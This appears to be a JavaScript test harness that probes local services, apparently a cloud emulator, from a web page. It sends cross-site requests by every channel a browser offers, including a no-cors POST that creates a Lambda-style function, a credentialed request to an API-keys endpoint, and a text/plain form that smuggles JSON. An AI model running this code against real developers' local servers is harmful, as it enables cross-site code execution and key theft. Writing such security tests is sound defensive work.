// Runs in a page: sends what a page can send to a base URL, in every way that it has. Resolves when each has ended, with what the page could read.
const attack = async (base, makesFunction) => {
  const read = [];
  const limit = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 30_000))]);
  const fetched = async (path, init) => {
    try {
      const answer = await fetch(base + path, init);
      if (answer.type !== "opaque") read.push(`${path} ${answer.status} ${await answer.text()}`);
    } catch {
      // Refused, or not to be read.
    }
  };
  const element = (name, path, attribute = "src") =>
    new Promise((resolve) => {
      const made = document.createElement(name);
      made.addEventListener("load", resolve);
      made.addEventListener("error", resolve);
      made[attribute] = base + path;
      if (name === "link") made.rel = "stylesheet";
      document.body.append(made);
    });
  const form = (path, name, value) =>
    new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.name = `frame-${Math.random()}`;
      const made = document.createElement("form");
      const field = document.createElement("input");
      Object.assign(field, { name, value });
      Object.assign(made, { action: base + path, method: "POST", enctype: "text/plain", target: frame.name });
      made.append(field);
      document.body.append(frame, made);
      frame.addEventListener("load", resolve);
      made.submit();
    });
  const socket = (path) =>
    new Promise((resolve) => {
      const made = new WebSocket(base.replace("http:", "ws:") + path);
      made.addEventListener("open", () => {
        read.push(`${path} WebSocket opened`);
        resolve();
      });
      made.addEventListener("error", resolve);
      made.addEventListener("close", resolve);
    });
  const events = (path) =>
    new Promise((resolve) => {
      const made = new EventSource(base + path);
      made.addEventListener("open", () => read.push(`${path} events opened`));
      made.addEventListener("error", () => resolve(made.close()));
    });
  // Says nothing when it is done; whoever listens sees it arrive.
  const ahead = (path) => {
    const made = document.createElement("script");
    made.type = "speculationrules";
    made.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [base + path] }] });
    document.body.append(made);
  };
  const text = { "content-type": "text/plain" };
  await Promise.all(
    [
      fetched("/fetch-cors", {}),
      fetched("/clock", { method: "POST", headers: { "content-type": "application/json" }, body: '{"advance":"P1D"}' }),
      fetched("/2015-03-31/functions", { method: "POST", mode: "no-cors", headers: text, body: makesFunction }),
      fetched("/clock", { method: "POST", mode: "no-cors", headers: text, body: '{"advance":"P1D"}' }),
      fetched("/console/api_keys", { method: "POST", mode: "no-cors", credentials: "include" }),
      fetched("/journal", { mode: "no-cors" }),
      form("/clock?form", '{"advance":"P1D","x":"', '"}'),
      element("img", "/image"),
      element("script", "/script"),
      element("link", "/style", "href"),
      element("iframe", "/frame"),
      socket("/socket"),
      events("/events"),
      ahead("/ahead"),
      navigator.sendBeacon(`${base}/beacon`, makesFunction),
    ].map(limit),
  );
  return read;
};

globalThis.attackAll = async (bases, makesFunction) =>
  (await Promise.all(bases.map((base) => attack(base, makesFunction)))).flat();
